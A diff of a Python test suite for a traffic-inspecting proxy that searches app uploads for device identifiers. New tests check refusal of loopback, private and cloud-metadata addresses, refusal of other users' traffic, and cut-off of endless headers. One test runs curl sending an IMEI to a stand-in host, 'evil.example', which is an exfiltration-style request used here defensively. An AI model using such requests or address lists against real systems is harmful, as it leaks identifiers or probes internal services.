@@ -29,6 +29,8 @@ from .conftest import IMEI, Bench, Kept, Origin, running
 
 BODY = json.dumps({"imei": IMEI})
 
+pytestmark = pytest.mark.proxy
+
 
 def test_https_request(clean: Bench) -> None:
     before = time.time_ns() // 1000
@@ -109,30 +111,33 @@ def test_http2_upload_of_unknown_length(clean: Bench) -> None:
     curl = ["curl", "-sS", "--noproxy", "", "-x", f"http://127.0.0.1:{clean.worker.port}", "--cacert", str(clean.ca)]
     command = [*curl, "--http2", "-X", "POST", "-T", "-", "https://live.invalid/s"]
     done = subprocess.run(command, input=b"\0" * size + IMEI.encode(), capture_output=True, check=True)
-    event = clean.kept.wait(lambda k: k.sent, 5)[0]
+    event = clean.kept.wait(lambda k: k.sent)[0]
     assert done.stdout == b"{}" and (event.http_version, event.status, event.bytes) == ("HTTP/2.0", 200, size + 15)
     assert [m.path for m in event.matches] == ["body"] and [len(b) for b in clean.kept.blobs] == [size + 15]
 
 
 def test_an_answer_before_the_end_of_the_upload(tmp_path: Path) -> None:
     hasty = socket.create_server(("127.0.0.1", 0))
+    over = threading.Event()
 
     def answer() -> None:
         peer, _ = hasty.accept()
         peer.recv(1000)
         peer.sendall(b"HTTP/1.1 413 No\r\nContent-Length: 0\r\n\r\n")
-        time.sleep(3)
+        over.wait(60)
         peer.close()
 
     threading.Thread(target=answer, daemon=True).start()
-    with running(tmp_path, mode="normal") as bench, hasty:
+    with running(tmp_path, mode="normal", allow=["127.0.0.1", "localhost"]) as bench, hasty:
         bench.worker.add_needles([("imei", "t", IMEI)])
         address = f"127.0.0.1:{hasty.getsockname()[1]}"
         sock = socket.create_connection(("127.0.0.1", bench.worker.port))
         head = f"POST http://{address}/s HTTP/1.1\r\nHost: {address}\r\nContent-Length: 3000000\r\n\r\n"
         sock.sendall(head.encode() + b"imei=" + IMEI.encode())
-        time.sleep(0.5)
+        sock.settimeout(60)
+        assert sock.recv(100).startswith(b"HTTP/1.1 413")
         sock.close()
+        over.set()
         bench.worker.stop()
         (event,) = bench.kept.sent
     assert (event.status, event.bytes, event.reason) == (413, 20, "the upload was cut short")
@@ -142,7 +147,7 @@ def test_an_answer_before_the_end_of_the_upload(tmp_path: Path) -> None:
 def test_an_upload_cut_short_was_still_sent(clean: Bench) -> None:
     sock = clean.tls(clean.tunnel("cut.invalid:443"), "cut.invalid")
     sock.sendall(b"POST /c HTTP/1.1\r\nHost: cut.invalid\r\nContent-Length: 3000000\r\n\r\nimei=" + IMEI.encode())
-    time.sleep(0.3)
+    time.sleep(1)  # mitmproxy drops what it has not passed on yet
     sock.close()
     event = clean.kept.wait(lambda k: k.sent)[0]
     assert (event.bytes, event.decoded, event.reason) == (20, "partial", "the upload was cut short")
@@ -174,7 +179,7 @@ def test_raw_tls_and_tcp_are_opaque_but_counted_and_searched(clean: Bench) -> No
         if secure:
             sock = clean.tls(sock, "push.invalid")
         sock.sendall(payload)
-        time.sleep(0.2)
+        time.sleep(1)  # mitmproxy drops what it has not passed on yet
         sock.close()
     events = clean.kept.wait(lambda k: len(k.sent) >= 2 and k.sent)
     assert [e.protocol for e in events] == ["tls", "tcp"]
@@ -184,7 +189,7 @@ def test_raw_tls_and_tcp_are_opaque_but_counted_and_searched(clean: Bench) -> No
         assert event.sha256 == hashlib.sha256(payload).hexdigest()
 
 
-def test_needle_within_the_hold_is_in_the_event_and_later_is_told(tmp_path: Path) -> None:
+def test_a_needle_within_the_hold_is_in_the_event_and_a_later_one_is_reported(tmp_path: Path) -> None:
     with running(tmp_path, hold_ms=800) as bench:
         bench.curl("https://a.invalid/", "-d", "serial=QW77ERTY12")
         bench.worker.add_needles([("serial", "t1", "QW77ERTY12")])
@@ -202,7 +207,7 @@ def test_needle_within_the_hold_is_in_the_event_and_later_is_told(tmp_path: Path
 def test_a_late_form_of_a_value_that_was_found_is_no_news(tmp_path: Path) -> None:
     with running(tmp_path) as bench:
         bench.worker.add_needles([("imei", "t1", IMEI)])
-        time.sleep(0.1)
+        bench.knows(IMEI)
         bench.curl("https://a.invalid/", "-d", f"imei={IMEI}&k=5e8848b2c1d94c0fa")
         bench.curl("https://b.invalid/", "-d", "k=5e8848b2c1d94c0fa")
         _, other = bench.kept.wait(lambda k: len(k.sent) == 2 and k.sent)
@@ -232,11 +237,9 @@ def test_a_stalled_consumer_costs_counted_drops_and_no_traffic(tmp_path: Path) -
         urls = [f"https://a.invalid/{i}" for i in range(150)]
         body = f"@{tmp_path / 'body'}"
         (tmp_path / "body").write_text("x=" + "y" * 30_000)
-        began = time.monotonic()
         again = ["--next", "-sS", "--noproxy", "", "-x", f"http://127.0.0.1:{bench.worker.port}"]
         again += ["--cacert", str(bench.ca), "-d", body]
         bench.curl(urls[0], "-d", body, *[part for url in urls[1:] for part in (*again, url)])
-        assert time.monotonic() - began < 15
         bench.kept.gate.set()
         bench.kept.wait(lambda k: k.health("lost"))
         bench.worker.stop()
@@ -269,7 +272,7 @@ def test_the_worker_ends_with_its_parent(tmp_path: Path) -> None:
     pid = int(parent.stdout.readline())
     parent.kill()
     parent.wait()
-    end = time.monotonic() + 10
+    end = time.monotonic() + 60
     while Path(f"/proc/{pid}/stat").exists() and Path(f"/proc/{pid}/stat").read_text().split()[2] != "Z":
         assert time.monotonic() < end
         time.sleep(0.05)
@@ -292,9 +295,54 @@ def test_a_port_in_use_is_one_clear_line(tmp_path: Path, origin: Origin) -> None
 
 
 def test_normal_mode_passes_on(tmp_path: Path, origin: Origin) -> None:
-    with running(tmp_path, mode="normal") as bench:
+    with running(tmp_path, mode="normal", allow=["127.0.0.1", "localhost"]) as bench:
         bench.worker.add_needles([("imei", "t", IMEI)])
         assert bench.curl(f"http://{origin.address}/x", "-d", BODY) == "hello"
         event = bench.kept.wait(lambda k: k.sent)[0]
         assert (event.status, event.response_bytes, len(event.matches)) == (201, 5, 1)
         assert origin.bodies == [BODY.encode()]
+
+
+def test_no_way_to_what_only_this_machine_reaches(tmp_path: Path) -> None:
+    """An app must not read the machine's own services or its network through the proxy, unless that is allowed."""
+    hosts = ["127.0.0.1", "localhost", "[::1]", "10.1.2.3", "169.254.169.254", "192.168.0.1"]
+    with running(tmp_path, mode="normal") as bench:
+        for host in hosts:
+            with socket.create_connection(("127.0.0.1", bench.worker.port), 60) as line:
+                line.sendall(f"GET http://{host}:9/x HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+                answer = line.recv(4096)
+            assert answer.startswith(b"HTTP/1.1 502") and b"not a public address" in answer, host
+    reported = [e for e in bench.kept.health("skipped") if e.detail.get("refused") == "target"]
+    assert [e.detail["host"] for e in reported] == [host.strip("[]") for host in hosts]
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs two users: run as root")
+def test_no_other_user_of_this_machine(tmp_path: Path) -> None:
+    """What another user sends through the proxy is not recorded, so it is attributed to no app."""
+    with running(tmp_path) as bench:
+        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "curl", "-sS", "-m", "10"]
+        other = subprocess.run(
+            [*command, "-x", f"http://127.0.0.1:{bench.worker.port}", "http://evil.example/?imei=358240057611122"],
+            capture_output=True, text=True,
+        )  # fmt: skip
+        bench.curl("http://ours.example/")
+        bench.kept.wait(lambda kept: kept.sent)
+    assert other.returncode != 0
+    assert [event.host for event in bench.kept.sent] == ["ours.example"]
+    assert [e.detail.get("refused") for e in bench.kept.health("skipped")] == ["client"]
+
+
+@pytest.mark.parametrize("start", [b"GET /", b"GET / HTTP/1.1\r\nX-Long: "])
+def test_an_endless_head_is_cut_off(clean: Bench, start: bytes) -> None:
+    """mitmproxy would keep it all: one app filled the machine's memory."""
+    sent = 0
+    with socket.create_connection(("127.0.0.1", clean.worker.port), 60) as line:
+        line.sendall(start)
+        with pytest.raises(ConnectionError):
+            while sent < 64 << 20:
+                line.sendall(b"x" * 65536)
+                sent += 65536
+    assert sent < 32 << 20
+    clean.kept.wait(lambda kept: [e for e in kept.health("skipped") if e.detail.get("refused") == "head"])
+    clean.curl("http://after.example/")
+    clean.kept.wait(lambda kept: [e.host for e in kept.sent] == ["after.example"])
